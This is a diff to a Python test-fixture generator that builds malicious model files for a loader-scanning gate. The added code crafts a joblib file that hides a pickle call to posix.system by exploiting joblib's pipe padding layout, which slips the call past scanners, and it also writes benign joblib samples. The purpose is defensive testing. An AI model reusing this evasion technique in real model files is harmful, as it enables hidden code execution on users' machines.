@@ -1,6 +1,7 @@
 """Fixtures for tests/test_gate_review.py: files an attacker builds from the loaders' own readings.
 
-Run `python tests/data/review/make_review.py` to (re)write them here with the standard library alone;
+Run `python tests/data/review/make_review.py` to (re)write them here (the joblib files need joblib and
+numpy, e.g. the corpus venv of tests/data/make_corpus.py; without them only the others are written);
 `python tests/data/review/make_review.py --prove PYTHON` then loads each malicious one with the real
 loaders listed in LOADERS, under an interpreter that has torch, joblib, numpy and pandas, each in a
 throwaway process in an empty directory, and fails unless the payload runs (creates the marker
@@ -19,6 +20,7 @@ import sys
 import tarfile
 import tempfile
 import zipfile
+import zlib
 from pathlib import Path
 
 HERE = Path(__file__).parent
@@ -76,7 +78,7 @@ def safetensors_polyglot() -> bytes:
 def _zip(name: str, data: bytes) -> bytes:
     buf = io.BytesIO()
     with zipfile.ZipFile(buf, "w") as archive:
-        archive.writestr(name, data)
+        archive.writestr(zipfile.ZipInfo(name, (2026, 1, 1, 0, 0, 0)), data)  # reproducible bytes
     return buf.getvalue()
 
 
@@ -106,7 +108,7 @@ def pt2_truthy_use_pickle() -> bytes:
                 data = json.dumps(config).encode()
             elif info.filename.endswith("/sample_inputs/model.pt"):
                 data = b""
-            out.writestr(info.filename, data)
+            out.writestr(zipfile.ZipInfo(info.filename, info.date_time), data)
     return buf.getvalue()
 
 
@@ -136,8 +138,12 @@ LOADERS = {
 }
 
 
+_JOBLIB_LOADERS = {"joblib_piped_payload.joblib": ((), ["joblib"])}
+
+
 def prove(python: str) -> None:
-    for name, (_data, loaders) in fixtures().items():
+    written = {**fixtures(), **{n: ([], loaders) for n, (_, loaders) in _JOBLIB_LOADERS.items()}}
+    for name, (_data, loaders) in written.items():
         for loader in loaders:
             with tempfile.TemporaryDirectory() as cwd:
                 command = [python, "-c", LOADERS[loader], str(HERE / name)]
@@ -149,11 +155,71 @@ def prove(python: str) -> None:
                 raise SystemExit(f"{name} does not run its payload under {loader}")
 
 
+class _NoTell(io.RawIOBase):
+    """A pipe-like sink: joblib writes no alignment byte where it cannot tell()."""
+
+    def __init__(self, sink: io.BytesIO) -> None:
+        self.sink = sink
+
+    def writable(self) -> bool:
+        return True
+
+    def write(self, b: bytes) -> int:  # type: ignore[override]
+        return self.sink.write(b)
+
+    def tell(self) -> int:
+        raise io.UnsupportedOperation
+
+    def seekable(self) -> bool:
+        return False
+
+
+def joblib_fixtures() -> dict[str, tuple[bytes, list[str]]]:
+    """Files joblib writes itself (safe), and one built on its pipe layout (malicious)."""
+    import joblib
+    import numpy as np
+
+    def dump(value: object, **kwargs: object) -> bytes:
+        buf = io.BytesIO()
+        joblib.dump(value, buf, **kwargs)
+        return buf.getvalue()
+
+    def piped(value: object) -> bytes:
+        buf = io.BytesIO()
+        joblib.dump(value, _NoTell(buf), protocol=2)
+        return buf.getvalue()
+
+    # joblib pads 1-16 bytes: 16 when the array would start aligned. Find a key length that does it.
+    for n in range(64):
+        aligned = dump({"k" * n: np.arange(6, dtype=np.float64)})
+        if b"K\x10ub\x10" in aligned:
+            break
+    # Through a pipe the array follows its BUILD at once; joblib skips 80 bytes where a reader that
+    # expects the padding byte skips 81: `K` eats the byte that byte-late reader takes as `U`, whose
+    # length (`c`, 99) hides the GLOBAL/REDUCE joblib runs.
+    head = piped(np.arange(10, dtype=np.int64))[:-1]
+    call = b"cposix\nsystem\n(V" + COMMAND.encode() + b" #"
+    call += b"x" * (0x64 - len(call) - 3) + b"\ntR"
+    return {
+        "joblib_pad16.joblib": (aligned, []),
+        "joblib_pad16_zlib.joblib": (zlib.compress(aligned), []),
+        "joblib_protocol1.joblib": (dump({"a": np.arange(5), "b": np.ones((2, 3))}, protocol=1), []),
+        "joblib_piped.joblib": (piped({"a": np.arange(5)}), []),
+        "joblib_piped_payload.joblib": (head + b"KU" + call + b"0.", ["joblib"]),
+    }
+
+
 def main() -> None:
     if sys.argv[1:2] == ["--prove"]:
         prove(sys.argv[2])
         return
     for name, (data, _loaders) in fixtures().items():
+        (HERE / name).write_bytes(data)
+    try:
+        extra = joblib_fixtures()
+    except ImportError:
+        return
+    for name, (data, _loaders) in extra.items():
         (HERE / name).write_bytes(data)
 
 
